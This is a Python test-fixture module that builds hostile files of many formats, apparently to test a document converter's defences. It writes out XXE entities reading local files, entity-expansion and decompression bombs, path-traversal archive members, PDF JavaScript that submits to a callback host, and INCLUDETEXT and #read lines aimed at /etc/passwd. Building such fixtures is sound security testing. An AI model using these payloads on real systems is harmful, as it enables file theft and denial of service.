"""Hostile files of other kinds, small, made when the tests run."""

# ruff: noqa: E501 - one hostile thing a line, however long

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

from tests.hostile.pages import PROSE

_CRLF = "\r\n"
_LAUGHS = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))


def _text(*lines: str) -> bytes:
    return _CRLF.join(lines).encode()


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


def _docx(document: bytes, **others: bytes) -> bytes:
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
        b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>'
    )
    return _zip({"[Content_Types].xml": types, "_rels/.rels": rels, "word/document.xml": document, **others})


def _says_it_is(data: bytes, size: int) -> bytes:
    """The ZIP with another size written beside its last member."""
    place = data.rindex(b"PK\1\2") + 24
    return data[:place] + struct.pack("<I", size) + data[place + 4 :]


def _epub(file: str) -> bytes:
    """A book that wants a file of this machine in its pages."""
    chapter = (
        f"<!DOCTYPE html [<!ENTITY x SYSTEM 'file://{file}'>]><html><body><h1>&x;</h1><p>{PROSE[0]}</p></body></html>"
    )
    return _zip(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": f"<!DOCTYPE c [<!ENTITY x SYSTEM 'file://{file}'>]><c>&x;</c>".encode(),
            "book.xhtml": chapter.encode(),
            "../../../../tmp/evil.txt": b"x",
        }
    )


def _word_body(text: str) -> bytes:
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return (
        f'<?xml version="1.0"?>{{head}}<w:document xmlns:w="{name}"><w:body>'
        f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
        + "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in PROSE)
        + "</w:body></w:document>"
    ).encode()


def _odt(content: bytes) -> bytes:
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "META-INF/manifest.xml": b"<x/>",
        }
    )


def _png(width: int, height: int, data: bytes = b"") -> bytes:
    """A picture that says it has this size."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", data or zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def _pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, start))


def _stream(data: bytes) -> bytes:
    return b"<</Length %d>>stream\n%s\nendstream" % (len(data), data)


def _pdfs(web: str, file: str) -> dict[str, bytes]:
    words = b"BT /F1 12 Tf 50 700 Td " + b"".join(b"(%s) Tj 0 -20 Td " % line.encode() for line in PROSE) + b"ET"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %s]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>%s>>"
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    action = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('%s/pdf'))>>"
        b"/AA<</WC<</S/Launch/F(%s)>>>>>>" % (web.encode(), file.encode())
    )
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]"
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    good = _pdf([catalog, tree, page % (b"612 792", b""), _stream(words), font])
    return {
        "active.pdf": _pdf([action, tree, page % (b"612 792", link), _stream(words), font]),
        "cut off.pdf": good[: len(good) // 2],
        "no table.pdf": good.replace(b"startxref", b"startnothing"),
        "page tree in a circle.pdf": _pdf([catalog, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"]),
        "a million pages.pdf": _pdf([catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>", page % (b"9 9", b"")]),
        "page of a kilometre.pdf": _pdf([catalog, tree, page % (b"99999999 99999999", b""), _stream(words), font]),
        "page without size.pdf": _pdf([catalog, tree, page % (b"0 0", b""), _stream(words), font]),
        "stream bomb.pdf": _pdf([catalog, tree, page % (b"612 792", b""), _bomb_stream(), font]),
        "nothing but a head.pdf": b"%PDF-1.7\n",
        "garbage.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 40,
    }


def _bomb_stream() -> bytes:
    data = zlib.compress(b"q " * 15_000_000, 9)
    return b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(data), data)


def _mails(web: str, file: str) -> dict[str, bytes]:
    html = f"<p>{'</p><p>'.join(PROSE)}</p><script>alert(1)</script><img src='{web}/mail.png'><img src='cid:x'>"
    head = ("From: Eve <eve@canary.invalid>", "Subject: =?utf-8?b?" + base64.b64encode("\u202eevil\n=1+1".encode()).decode() + "?=",
            "Date: Tue, 99 Foo 9999 99:99:99 +9999", "MIME-Version: 1.0")  # fmt: skip
    nested = b""
    for _ in range(300):
        nested = b"Content-Type: message/rfc822\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\n" + nested
    parts = [f"--b{_CRLF}Content-Type: text/plain{_CRLF}{_CRLF}part {n}{_CRLF}" for n in range(20_000)]
    attached = (
        f'--b{_CRLF}Content-Type: text/html; name="../../../../tmp/evil.html"{_CRLF}'
        f'Content-Disposition: attachment; filename="../../../../tmp/evil.html"{_CRLF}{_CRLF}{html}{_CRLF}--b--'
    )
    mhtml = _text(
        "From: <Saved by Blink>", "Snapshot-Content-Location: javascript:alert(1)", "Subject: x", "MIME-Version: 1.0",
        'Content-Type: multipart/related; boundary="b"', "", "--b", "Content-Type: text/html",
        f"Content-Location: file://{file}", "", f"<h1>Title</h1>{html}<img src='file://{file}'><img src='../x.png'>", "--b",
        "Content-Type: image/png", "Content-Location: ../x.png", "Content-Transfer-Encoding: base64", "",
        "@@@ not base64 @@@", "--b", "Content-Type: text/css", f"Content-Location: {web}/x.css", "",
        f"@import '{web}/y.css'; p{{background:url({web}/z.png)}}", "--b--", "",
    )  # fmt: skip
    return {
        "html.eml": _text(*head, "Content-Type: text/html; charset=klingon", "", html),
        "attachment.eml": _text(*head, "Content-Type: multipart/mixed; boundary=b", "", attached),
        "nested.eml": _text(*head) + _CRLF.encode() + nested,
        "parts.eml": _text(*head, "Content-Type: multipart/mixed; boundary=b", "", *parts, "--b--"),
        "boundary.eml": _text(*head, f"Content-Type: multipart/mixed; boundary={'b' * 9000}", "", "--x"),
        "headers.eml": _text(*head, *(f"X-{n}: {'y' * 90}" for n in range(20_000)), "", *PROSE),
        "empty.eml": _text(*head, "", ""),
        "saved.mhtml": mhtml,
        "no boundary.mhtml": mhtml.replace(b'boundary="b"', b""),
        "many.mbox": b"".join(b"From x Mon Jan  1 00:00:00 2025\nSubject: n\nFrom: a@b.invalid\n\nx\n\n" for _ in range(5000)),
    }  # fmt: skip


def _office(file: str) -> dict[str, bytes]:
    plain = _word_body("Council waits again")
    secret = _word_body("&secret;").replace(
        b"{head}", f"<!DOCTYPE x [<!ENTITY secret SYSTEM 'file://{file}'>]>".encode()
    )
    laughs = _word_body("&l11;").replace(b"{head}", f"<!DOCTYPE x [<!ENTITY l0 'ha'>{_LAUGHS}]>".encode())
    deep = _word_body("<w:x>" * 100_000).replace(b"{head}", b"")
    office = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    odt = f"<office:document-content {office}><office:body><office:text><text:p>%s</text:p></office:text></office:body></office:document-content>"
    fields = plain.replace(b"{head}", b"").replace(
        b"Council waits again",
        b"x</w:t></w:r></w:p><w:p><w:r><w:instrText>INCLUDETEXT /etc/passwd</w:instrText></w:r><w:r><w:t>y",
    )
    return {
        "secret.docx": _docx(secret),
        "laughs.docx": _docx(laughs),
        "deep.docx": _docx(deep),
        "fields.docx": _docx(fields),
        "bomb.docx": _docx(plain.replace(b"{head}", b"<!--" + b" " * 300_000_000 + b"-->")),
        "says it is huge.docx": _says_it_is(_docx(plain.replace(b"{head}", b"")), 2_000_000_000),
        "says it is small.docx": _says_it_is(_docx(plain.replace(b"{head}", b"")), 10),
        "secret.epub": _epub(file),
        "bomb.zip": _zip({"0.html": b"\0" * 100_000_000, "1.zip": _zip({"2.html": b"\0" * 10_000_000})}),
        "paths.zip": _zip({"../../../../tmp/evil.html": b"<p>x", "/tmp/evil.txt": b"x", "C:\\evil.html": b"<p>x"}),
        "paths.docx": _docx(plain.replace(b"{head}", b""), **{"../../../../tmp/evil.txt": b"x", "/etc/evil": b"x"}),
        "no document.docx": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b""}),
        "cut off.docx": _docx(plain.replace(b"{head}", b""))[:400],
        "secret.odt": _odt((f"<!DOCTYPE x [<!ENTITY s SYSTEM 'file://{file}'>]>" + odt % "&s;").encode()),
        "laughs.odt": _odt((f"<!DOCTYPE x [<!ENTITY l0 'ha'>{_LAUGHS}]>" + odt % "&l11;").encode()),
        "deep.odt": _odt((odt % ("<text:span>" * 50_000)).encode()),
        "groups.rtf": b"{\\rtf1 " + b"{" * 200_000 + b"x" + b"}" * 200_000 + b"}",
        "binary.rtf": b"{\\rtf1 {\\object\\objdata 0105000002}\\bin99999999999 {\\field{\\*\\fldinst HYPERLINK javascript:x}{\\fldrslt y}}}",
        "open.rtf": b"{\\rtf1 \\'zz \\u-99999999? \\uc9999 {\\fonttbl",
        "broken.msg": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3000,
        "page.xhtml": (f"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file://{file}'>]><html xmlns="
                       f"'http://www.w3.org/1999/xhtml'><body><h1>Title &x;</h1><p>{'</p><p>'.join(PROSE)}</p></body></html>").encode(),
        "laughs.xhtml": (f"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY l0 'ha'>{_LAUGHS}]><html><body><p>&l11;</p><p>"
                         f"{'</p><p>'.join(PROSE)}</p></body></html>").encode(),
        "page.webarchive": (f"<?xml version='1.0'?><!DOCTYPE plist [<!ENTITY x SYSTEM 'file://{file}'>]><plist><dict>"
                            f"<key>WebMainResource</key><dict><key>WebResourceData</key><data>&x;</data></dict></dict></plist>").encode(),
        "binary.webarchive": b"bplist00" + b"\xd1\x01\x02" + b"\xa1\x00" * 50 + b"\0" * 32,
    }  # fmt: skip


def _pictures() -> dict[str, bytes]:
    return {
        "enormous.png": _png(30_000, 30_000),
        "large.png": _png(12_000, 11_000),
        "impossible.png": _png(2**31 - 1, 2**31 - 1),
        "no size.png": _png(0, 0),
        "bomb.png": _png(20_000, 20_000, zlib.compress(b"\0" * 60_000_000, 9)),
        "cut off.png": _png(40, 40)[:40],
        "head only.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF",
        "frames.gif": b"GIF89a\xff\xff\xff\xff\x80\0\0" + b"\0" * 6 + (b"!\xf9\4\0\0\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\2\1\0\0") * 500,
        "directories.tiff": b"II*\0\x08\0\0\0\1\0\0\1\4\0\1\0\0\0\xff\xff\xff\x7f\x08\0\0\0",
        "picture.bmp": b"BM" + b"\xff" * 4 + b"\0" * 4 + b"\xff" * 60,
    }  # fmt: skip


def _texts() -> dict[str, bytes]:
    prose = "\n\n".join(PROSE)
    return {
        "controls.txt": f"Headline\x1b[2J\x07\x00\n\n{prose}\n\n\ud800".encode("utf-8", "surrogatepass"),
        "direction.txt": f"\u202eenildaeH\n\n{prose}".encode(),
        "formula.txt": f"=HYPERLINK(\"http://canary.invalid\")\n\n{prose}\n\n=1+1".encode(),
        "typst.txt": f"#read(\"/etc/passwd\")\n\n{prose}\n\n#panic(\"x\") $ ``` = * _ \\".encode(),
        "markdown.md": f"# <script>alert(1)</script>\n\n[x](javascript:alert(1))\n\n![y](http://canary.invalid:9/m.png)\n\n{prose}".encode(),
        "only marks.txt": ("\u200b\u00ad\ufeff\u202e" * 500).encode(),
        "combining.txt": ("Z" + "\u0301\u0489" * 5000 + "\n\n" + prose).encode(),
        "dots.txt": (". " * 50_000).encode(),
    }  # fmt: skip


def files(*, web: str, file: str) -> dict[str, bytes]:
    """All hostile files that are no web pages, by name."""
    return {**_pdfs(web, file), **_mails(web, file), **_office(file), **_pictures(), **_texts()}
